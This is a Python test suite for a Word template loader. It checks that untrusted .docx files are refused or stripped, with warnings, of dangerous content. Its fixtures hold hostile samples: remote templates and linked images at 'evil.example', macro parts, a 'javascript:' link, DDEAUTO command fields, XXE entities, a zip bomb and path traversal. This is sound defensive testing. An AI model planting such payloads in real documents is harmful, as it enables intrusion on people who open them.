"""Templates from strangers: refused, or stripped with a warning that says what and where."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path

import pytest

from docgen.diagnostics import DocgenError, Severity
from docgen.wordtemplate import WordTemplate, load_template
from docgen.wordtemplate.pictures import measure
from tests.wordtemplate.samples import members, names, p, part, png, text, write

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def related(
    kind: str, target: str, *, external: bool = False, body: str = "", more: dict[str, str] | None = None
) -> dict[str, str]:
    """A Word file whose document has one more relationship, rIdBad."""
    mode = ' TargetMode="External"' if external else ""
    files = members(p("{{ v }}") + body)
    rels = "word/_rels/document.xml.rels"
    kind = kind if "/" in kind else OFFICE + kind
    relation = f'<Relationship Id="rIdBad" Type="{kind}" Target="{target}"{mode}/>'
    empty = "</Relationships>"
    files[rels] = files[rels].replace(empty, relation + empty)
    return files | (more or {})


def opened(path: Path, files: dict[str, str]) -> tuple[WordTemplate, bytes]:
    template = load_template(write(path / "t.docx", dict(files)))
    return template, template.render({"v": "甲"})


def refusal(path: Path) -> str:
    with pytest.raises(DocgenError) as caught:
        load_template(path)
    faults = [d for d in caught.value.diagnostics if d.severity is Severity.ERROR]
    assert faults and all(d.place.file for d in faults)
    return faults[0].code


LINKED = '<w:p><w:r><w:drawing><a:blip xmlns:a="urn:a" r:link="rIdBad"/></w:drawing></w:r></w:p>'
OBJECT = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:o" r:id="rIdBad"/></w:object></w:r></w:p>'
CHUNK = '<w:altChunk r:id="rIdBad"/>'

STRIPPED: dict[str, tuple[dict[str, str], str]] = {
    "remote template": (related("attachedTemplate", "https://evil.example/x.dotm", external=True), "W022"),
    "linked image": (related("image", "https://evil.example/x.png", external=True, body=LINKED), "W022"),
    "linked object": (related("oleObject", "file:///x.doc", external=True, body=OBJECT), "W022"),
    "embedded object": (related("oleObject", "embeddings/o.bin", body=OBJECT, more={"word/embeddings/o.bin": "x"}), "W021"),
    "embedded package": (related("package", "embeddings/o.xlsx", body=OBJECT, more={"word/embeddings/o.xlsx": "x"}), "W021"),
    "alternative chunk": (related("aFChunk", "c.html", body=CHUNK, more={"word/c.html": "<html/>"}), "W021"),
    "macros": (
        related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", more={"word/vbaProject.bin": "x"}),
        "W020",
    ),
    "unsafe link": (related("hyperlink", "javascript:alert(1)", external=True), "W023"),
}  # fmt: skip


@pytest.mark.parametrize("name", STRIPPED)
def test_dangerous_content_is_taken_out_and_named(name: str, tmp_path: Path) -> None:
    files, code = STRIPPED[name]
    template, made = opened(tmp_path, files)
    (warning,) = template.diagnostics
    assert warning.code == code and warning.severity is Severity.WARNING
    assert (
        warning.values["part"] == "word/document.xml"
        and warning.values["target"] in files["word/_rels/document.xml.rels"]
    )
    assert text(made).strip() == "甲"
    assert "rIdBad" not in part(made) + part(made, "word/_rels/document.xml.rels")
    assert not [n for n in names(made) if n.endswith((".bin", ".xlsx", ".html"))]


def test_a_macro_enabled_document_becomes_a_plain_one(tmp_path: Path) -> None:
    files = members(p("{{ v }}"))
    files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    template, made = opened(tmp_path, files)
    assert [d.code for d in template.diagnostics] == ["W020"]
    assert "macroEnabled" not in part(made, "[Content_Types].xml")


def test_links_people_may_follow_stay(tmp_path: Path) -> None:
    template, made = opened(tmp_path, related("hyperlink", "https://service.example/", external=True))
    assert template.diagnostics == () and "https://service.example/" in part(made, "word/_rels/document.xml.rels")


@pytest.mark.parametrize(
    "code", ["DDEAUTO c:\\x cmd", "INCLUDEPICTURE http://evil.example/x", "INCLUDETEXT x", "LINK Excel x"]
)
def test_field_codes_that_fetch_are_disabled_also_when_cut_up(code: str, tmp_path: Path) -> None:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    pieces = "".join(f"<w:r><w:instrText>{c}</w:instrText></w:r>" for c in (" ", code[:3], code[3:]))
    template, made = opened(tmp_path, members(p("{{ v }}") + p(begin + pieces + end)))
    assert [d.code for d in template.diagnostics] == ["W024"] and code[3:] not in part(made)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7-as-declared"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/header1.XML"])
def test_field_codes_in_another_encoding_are_found(encoding: str, name: str, tmp_path: Path) -> None:
    files: dict[str, str | bytes] = dict(members(p("{{ v }}")))
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    field = p(begin + "<w:r><w:instrText>DDEAUTO c:</w:instrText></w:r>" + end)
    text = str(files["word/document.xml"]).rpartition("?>")[2].replace("</w:body>", field + "</w:body>")
    if encoding == "utf-7-as-declared":
        files[name] = f'<?xml version="1.0" encoding="iso-8859-1"?>{text}'.encode("ascii", "xmlcharrefreplace")
    else:
        files[name] = f'<?xml version="1.0" encoding="{encoding[:6]}"?>{text}'.encode(encoding)
    template, made = opened(tmp_path, files)  # type: ignore[arg-type]
    assert [d.code for d in template.diagnostics] == ["W024"] and "DDEAUTO" not in part(made, name)


def test_entities_in_utf_16_without_a_mark_are_refused(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = dict(members(p("字")))
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    assert refusal(write(tmp_path / "t.docx", files | {"word/x.xml": text.encode("utf-16-le")})) == "W030"


def test_a_page_number_field_stays(tmp_path: Path) -> None:
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    template, made = opened(tmp_path, members(p("{{ v }}") + p(field)))
    assert template.diagnostics == () and " PAGE " in part(made)


@pytest.mark.parametrize(
    "data",
    [
        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>',
        '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
        '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16"),
    ],
)
@pytest.mark.parametrize("name", ["word/document.xml", "word/footnotes.xml", "customXml/item1.xml", "word/x.bin"])
def test_entities_are_refused_in_any_part(data: str | bytes, name: str, tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {**members(p("字")), name: data}
    assert refusal(write(tmp_path / "t.docx", files)) == "W030"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {**members(p("字")), "word/media/x.xml": b"0" * 70_000_000}
    assert refusal(write(tmp_path / "t.docx", files)) == "W015"


def test_a_member_larger_than_it_says_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path / "t.docx", {**members(p("字")), "word/x.xml": "<x/>" * 1000})
    raw = bytearray(path.read_bytes())
    size = struct.pack("<L", 4000)
    assert raw.count(size) == 2  # local header and directory
    path.write_bytes(bytes(raw).replace(size, struct.pack("<L", 40)))
    assert refusal(path) == "W018"


def _nested(path: Path) -> Path:
    return write(path, {**members(p("字")), "../../etc/x.xml": "<x/>"})


def _twice(path: Path) -> Path:
    with pytest.warns(UserWarning), zipfile.ZipFile(path, "w") as package:
        for name, data in [*members(p("字")).items(), ("word/document.xml", "<x/>")]:
            package.writestr(name, data)
    return path


def _many(path: Path) -> Path:
    return write(path, {**members(p("字")), **{f"word/x{n}.xml": "" for n in range(2001)}})


def _encrypted(path: Path) -> Path:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512)
    return path


def _cut(path: Path) -> Path:
    data = write(path, dict(members(p("字")))).read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


def _text(path: Path) -> Path:
    path.write_text("kein Word", encoding="utf-8")
    return path


def _flipped(path: Path) -> Path:
    data = bytearray(write(path, dict(members(p("字" * 500)))).read_bytes())
    at = data.index(b"word/document.xml") + 60
    data[at] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize(
    ("make", "code"),
    [
        (_nested, "W016"),
        (_twice, "W017"),
        (_many, "W014"),
        (_encrypted, "W013"),
        (_cut, "W012"),
        (_text, "W012"),
        (_flipped, "W018"),
    ],
)
def test_a_file_that_is_not_what_it_seems_is_refused(make: Callable[[Path], Path], code: str, tmp_path: Path) -> None:
    assert refusal(make(tmp_path / "t.docx")) == code


def test_a_missing_file_and_a_folder_without_parts_are_refused(tmp_path: Path) -> None:
    assert refusal(tmp_path / "no.docx") == "W010"
    assert refusal(tmp_path) == "W012"


def test_broken_xml_is_refused_with_its_part(tmp_path: Path) -> None:
    assert refusal(write(tmp_path / "t.docx", {**members("x"), "word/document.xml": "<a>{{ v }}<b></a>"})) == "W031"


@pytest.mark.parametrize("cut", range(0, 60, 3))
def test_damaged_pictures_are_never_measured_as_sound(cut: int) -> None:
    data = png()[:cut]
    with pytest.raises((ValueError, struct.error, IndexError)):
        measure(data)


def test_a_jpeg_is_measured_past_its_first_segments() -> None:
    head = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    assert measure(head + b"\xff\xc0\x00\x11\x08\x00\x20\x00\x40\x03" + b"\0" * 9) == ("jpeg", 64, 32)


def test_a_zip_that_is_read_is_the_one_that_is_written(tmp_path: Path) -> None:
    _, made = opened(tmp_path, members(p("{{ v }}")))
    with zipfile.ZipFile(BytesIO(made)) as package:
        assert package.testzip() is None and {i.date_time for i in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
